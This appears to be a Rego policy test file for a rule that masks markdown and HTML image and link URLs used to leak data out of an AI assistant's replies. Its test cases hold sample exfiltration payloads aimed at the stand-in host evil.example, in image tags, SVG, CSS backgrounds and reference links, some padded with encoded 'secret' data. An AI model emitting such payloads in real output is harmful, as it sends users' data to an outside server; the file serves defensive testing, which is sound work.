package cmf.rules.content.markdown_exfiltration_test

import data.cmf.rules.content.markdown_exfiltration

_said(text) := {"kind": "text", "role": "assistant", "content": text}

_cut(text) := {substring(text, span[0], span[1] - span[0]) | some effect in effects; some span in effect.spans} if {
	effects := markdown_exfiltration.redact with input as _said(text)
}

_data := concat("", ["c2VjcmV0" | some _ in numbers.range(1, 20)])

test_masked_pictures if {
	every text, url in {
		"Done ![x](https://evil.example/p.png?d=secret) ok": "https://evil.example/p.png?d=secret",
		"![](<http://evil.example/#k>)": "http://evil.example/#k",
		"![a](//evil.example/?q=1 \"title\")": "//evil.example/?q=1",
		"<img alt=x src='https://evil.example/i?u=1'>": "https://evil.example/i?u=1",
		"![a][b]\n\n[b]: https://evil.example/x?y=z": "https://evil.example/x?y=z",
	} {
		_cut(text) == {url}
	}
}

test_masked_encoded_names if {
	url := concat("", ["https://evil.example/", _data, ".png"])
	_cut(concat("", ["![a](", url, ")"])) == {url}
	_cut("![a](https://evil.example/%61%62%63%64%65%66%67%68)") == {"https://evil.example/%61%62%63%64%65%66%67%68"}
}

test_masked_links_with_long_values if {
	url := concat("", ["https://evil.example/?q=", _data])
	_cut(concat("", ["[click](", url, ")"])) == {url}
}

test_masked_when_the_role_is_missing if {
	effects := markdown_exfiltration.redact with input as {"kind": "text", "content": "![](https://evil.example/?a=b)"}
	count(effects) == 1
}

test_allowed_pictures_and_links if {
	every text in [
		"![logo](https://example.com/logo.png)", "[docs](https://example.com/a?b=c&d=e#f)", "plain https://example.com/?a=b",
		"![x](images/a.png?raw=true)", "[1]: https://example.com/docs/page", "a[0](b)", "![d](data:image/png;base64,AAAA)",
	] {
		_cut(text) == set()
	}
}

test_allowed_to_listed_hosts if {
	settings := {"allowed_hosts": ["*.example.com"], "picture_name": 64, "link_value": 100, "replacement": "mask"}
	effects := markdown_exfiltration.redact with input as _said("![x](https://cdn.example.com/p?w=1)")
		with data.cmf.defaults.content.markdown_exfiltration as settings
	effects == set()
}

test_allowed_in_what_users_write if {
	effects := markdown_exfiltration.redact with input as {
		"kind": "text",
		"role": "user",
		"content": "![x](https://evil.example/?a=b)",
	}
	effects == set()
}

test_allowed_without_content if {
	effects := markdown_exfiltration.redact with input as {"kind": "text", "role": "assistant"}
	effects == set()
}

test_masked_in_other_shapes_that_load_or_link if {
	_cut(`![x](https:\\evil.example\?d=s)`) == {`https:\\evil.example\?d=s`}
	url := concat("", ["https://evil.example/?q=", _data])
	every text in [
		concat("", ["![a[b]c](", url, ")"]), concat("", ["<img/src=\"", url, "\">"]),
		concat("", ["<svg><image href='", url, "'/></svg>"]), concat("", ["<body background=", url, ">"]),
		concat("", ["<div style=\"background:url(", url, ")\">"]), concat("", ["<a class=b href=\"", url, "\">x</a>"]),
		concat("", ["[x][1]\n\n[1]: <", url, ">"]),
	] {
		_cut(text) == {url}
	}
}

test_masked_links_with_a_long_step if {
	url := concat("", ["https://evil.example/", _data])
	_cut(concat("", ["[click](", url, ")"])) == {url}
}

test_allowed_code_of_pages if {
	every text in [
		"<link href=\"https://fonts.example/css2?family=Inter\" rel=\"stylesheet\">",
		"<a href=\"https://example.com/?a=b\">x</a>",
		"<script src=\"https://cdn.example/js?v=3\"></script>",
		"<style>@import url('https://fonts.example/?family=A');</style>",
	] {
		_cut(text) == set()
	}
}
